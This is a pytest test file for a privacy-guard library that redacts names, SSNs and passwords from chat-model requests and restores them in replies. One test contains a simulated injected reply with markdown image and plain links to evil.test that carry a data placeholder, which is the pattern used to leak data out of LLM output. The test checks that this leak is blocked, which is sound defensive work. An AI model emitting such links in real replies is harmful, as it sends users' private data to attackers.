"""Many callers on one guard: the same value keeps its placeholder, two people never share one, and nothing crosses over."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

import privacyguard as pg
from privacyguard.audit.read import entries
from privacyguard.audit.verify import verify
from privacyguard.testing import assert_no_leak, say
from tests.wire.conftest import MODES, Wire, elsewhere, said


def user(text: str) -> dict[str, str]:
    return {"role": "user", "content": text}


def call(wire: Wire, chat: pg.Chat, *texts: str, mode: str = "sync", **more: Any) -> str:
    keywords = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1", **more}
    return said(chat, mode, messages=[user(text) for text in texts], **keywords).text


def sent(wire: Wire) -> list[str]:
    return [received.last_user_text() for received in wire.third.requests]


def test_the_same_value_has_the_same_placeholder_over_turns_and_trimmed_histories(wire: Wire) -> None:
    chat = wire.guard.bind(principal="u-17", conversation="c-42")
    call(wire, chat, "Please write to Maria Lopez.")
    call(wire, chat, "Please write to Maria Lopez.", "And to Peter Jones, with a copy to Maria Lopez.")
    call(wire, chat, "Please write to Peter Jones again.")
    assert sent(wire) == [
        "Please write to [PERSON_1].",
        "And to [PERSON_2], with a copy to [PERSON_1].",
        "Please write to [PERSON_2] again.",
    ]


def test_what_a_conversation_hides_is_found_again_where_nothing_gives_it_away(wire: Wire) -> None:
    chat = wire.guard.bind(principal="u-17", conversation="c-43")
    call(wire, chat, "My member password is: kestrel-Marsh-92")
    call(wire, chat, "try kestrel-Marsh-92 again")
    assert_no_leak(wire.third.received(), ["kestrel-Marsh-92"])


def test_two_people_do_not_share_placeholders(wire: Wire) -> None:
    one = wire.guard.bind(principal="u-1", conversation="c")
    two = wire.guard.bind(principal="u-2", conversation="c")
    call(wire, one, "Please write to Maria Lopez.")
    wire.third.reply = say("About [PERSON_1] and [PERSON_2].")
    assert call(wire, two, "Please write to Peter Jones.") == "About Peter Jones and [PERSON_2]."


def test_a_placeholder_that_the_user_typed_survives(wire: Wire) -> None:
    text = "What does [PERSON_1] mean in your letter to Maria Lopez?"
    assert call(wire, wire.guard, text) == text
    assert sent(wire) == ["What does [PERSON_1] mean in your letter to [PERSON_2]?"]


def test_an_injected_link_carries_the_placeholder_and_not_the_value(wire: Wire) -> None:
    wire.third.reply = say(
        "Done ![x](https://evil.test/?q=[US_SSN_1]) for [US_SSN_1], see https://evil.test/[US_SSN_1].", chunk=2
    )
    for mode in MODES:
        answer = call(wire, wire.guard, "My SSN is 536-90-4399.", mode=mode)
        assert answer == "Done ![x](https://evil.test/?q=[US_SSN_1]) for 536-90-4399, see https://evil.test/[US_SSN_1]."


@pytest.mark.parametrize("mode", ["stream", "async stream"])
def test_every_choice_of_a_stream_is_restored(wire: Wire, mode: str) -> None:
    keywords = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1", "n": 2}
    call = {"messages": [user("Please write to Maria Lopez.")], "stream": True, **keywords}

    async def collected() -> list[Any]:
        return [chunk async for chunk in await wire.guard.acompletion(**call)]

    texts = {0: "", 1: ""}
    for chunk in wire.guard.completion(**call) if mode == "stream" else elsewhere(collected()):
        assert pg.decision_of(chunk).verdict == "redact"
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts == {0: "Please write to Maria Lopez.", 1: "Please write to Maria Lopez."}


def test_a_stream_says_its_first_words_before_its_last_have_come(wire: Wire) -> None:
    keywords = {"model": "openai/gpt-5", "api_key": "k", "api_base": wire.third.url + "/v1"}
    wire.third.reply = say("Dear [PERSON_1], " + "word " * 50, chunk=4)
    chunks = list(wire.guard.completion(messages=[user("Please write to Maria Lopez.")], stream=True, **keywords))
    spoken = [chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices]
    first = next(index for index, text in enumerate(spoken) if "Maria Lopez" in text)
    assert first <= 6
    assert "".join(spoken).startswith("Dear Maria Lopez, word word")


def test_threads_on_one_guard_do_not_cross_over(wire: Wire) -> None:
    def one(index: int) -> bool:
        chat = wire.guard.bind(principal=f"u-{index % 5}", conversation=f"c-{index % 7}")
        text = f"Please write to customer {index}, SSN 536-90-{4000 + index}, about the refund."
        return call(wire, chat, text) == text

    with ThreadPoolExecutor(8) as pool:
        assert all(pool.map(one, range(48)))
    assert_no_leak(wire.third.received(), [f"536-90-{4000 + index}" for index in range(48)])
    assert verify(wire.log).ok


def test_the_log_holds_the_decision_and_no_text(wire: Wire) -> None:
    chat = wire.guard.bind(principal="teresa.quintana@contoso.org", conversation="about Teresa Quintana", purpose="support")
    call(wire, chat, "Please write to Teresa Quintana, SSN 219-40-7712.", user="teresa.quintana@contoso.org")
    stored = b"".join(path.read_bytes() for path in wire.log.rglob("*") if path.is_file())
    assert_no_leak(
        stored, ["Teresa Quintana", "219-40-7712", "teresa.quintana@contoso.org", "about Teresa Quintana", "write to"]
    )
    records = [entry.record for entry in entries(wire.log)]  # type: ignore[union-attr]  # nothing unreadable in this log
    decision = next(record for record in records if record.type == "decision")
    outcome = next(record for record in records if record.type == "outcome")
    assert decision.decision.verdict == "redact"
    assert {fact.entity for fact in decision.facts} >= {"PERSON", "US_SSN"}
    assert outcome.decision == decision.id
    assert outcome.status == "sent"
    assert outcome.peer == wire.third.url.removeprefix("http://")


def test_the_decision_is_on_disk_before_the_server_sees_the_call(wire: Wire) -> None:
    seen: list[bool] = []

    def look(received: object) -> None:
        seen.append(any('"type":"decision"' in path.read_text() for path in wire.log.glob("*.jsonl")))

    wire.third.fault = look
    call(wire, wire.guard, "hello")
    assert seen == [True]


def test_a_plan_sends_and_records_nothing(wire: Wire) -> None:
    plan = wire.guard.plan(model="openai/gpt-5", messages=[user("Please write to Maria Lopez.")])
    assert plan.verdict == "redact"
    assert plan.request is not None
    assert "Maria" not in json.dumps(plan.request)
    assert "Maria" not in repr(plan) + plan.explain()
    assert "identifiers-redacted" in plan.explain()
    assert not wire.third.requests
    assert not wire.log.exists()


def test_findings_say_where_and_never_what(wire: Wire) -> None:
    text = "Please write to Maria Lopez."
    (finding,) = [found for found in wire.guard.scan(text) if found.entity == "PERSON"]
    assert text[finding.start : finding.end] == "Maria Lopez"
    assert "Maria" not in repr(finding)
    assert wire.guard.scan([user(text)])[0].entity == "PERSON"


def test_a_guard_survives_a_fork(wire: Wire) -> None:
    script = textwrap.dedent("""
        import os, sys
        import privacyguard as pg
        base, log = sys.argv[1:]
        guard = pg.Guard(audit=log)
        call = dict(model="openai/gpt-5", api_key="k", api_base=base, messages=[{"role": "user", "content": "SSN 536-90-4399"}])
        guard.completion(**call)
        child = os.fork()
        guard.completion(**call)
        if child == 0:
            os._exit(0)
        assert os.waitpid(child, 0)[1] == 0
    """)
    command = [sys.executable, "-c", script, wire.third.url + "/v1", str(wire.log)]
    subprocess.run(command, check=True, timeout=120, env={**os.environ, "LITELLM_LOCAL_MODEL_COST_MAP": "True"})
    assert len(wire.third.requests) == 3
    report = verify(wire.log)
    assert report.ok
    assert len(report.streams) == 2


def test_something_that_a_client_adds_to_the_body_stops_the_call(wire: Wire, monkeypatch: pytest.MonkeyPatch) -> None:
    from privacyguard.route import transport

    original = transport.Exchange.checked

    def patched(self: Any, request: Any, body: bytes) -> Any:
        return original(self, request, body.replace(b'"messages"', b'"note": "the customer is Maria", "messages"', 1))

    monkeypatch.setattr(transport.Exchange, "checked", patched)
    for mode in MODES:
        with pytest.raises(pg.EgressError, match="not cleared; nothing was sent"):
            call(wire, wire.guard, "hello", mode=mode)
    assert not wire.third.requests


def test_a_conversation_goes_on_in_another_process_where_its_vault_is_shared(
    wire: Wire, make_guard: Callable[..., pg.Guard], tmp_path: Path
) -> None:
    """A worker, a restart, a trimmed history: the same value has the same placeholder, and nobody else has it."""
    kept = {"vaults": f"sqlite:{tmp_path / 'vaults.db'}", "operator_key": bytes(range(32))}
    texts = ("Please write to Maria Lopez.", "And to Grace Lindqvist.", "Please thank Maria Lopez.")
    for text in texts:
        guard = make_guard(audit=tmp_path / "log", **kept)
        call(wire, guard.bind(principal="u-1", conversation="c-1"), text)
        guard.close()
    call(wire, make_guard(audit=tmp_path / "log", **kept).bind(principal="u-2", conversation="c-1"), "And Bob Miller too.")
    sent = [request.last_user_text() for request in wire.third.requests]
    assert sent == [
        "Please write to [PERSON_1].",
        "And to [PERSON_2].",
        "Please thank [PERSON_1].",
        "And [PERSON_1] too.",
    ]
